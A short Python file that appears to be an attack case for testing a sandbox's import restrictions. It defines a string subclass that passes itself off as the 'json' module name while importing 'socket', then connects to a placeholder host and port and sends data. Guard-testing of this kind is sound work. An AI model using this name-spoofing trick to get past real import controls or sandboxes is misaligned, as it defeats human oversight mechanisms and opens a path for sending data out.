"""A module's name that says it is another one."""
CATEGORY = "races"
REACH = "net"

import importlib

from . import payload


class Name(str):
    __eq__ = lambda self, other: other == "json"
    __hash__ = lambda self: hash("json")
    __str__ = __repr__ = lambda self: "json"
    rpartition = lambda self, *args: ("", "", "json")


def attack():
    module = importlib.import_module(Name("socket"))
    with module.create_connection((payload.HOST, payload.PORT)) as connection:
        connection.sendall(b"evil")
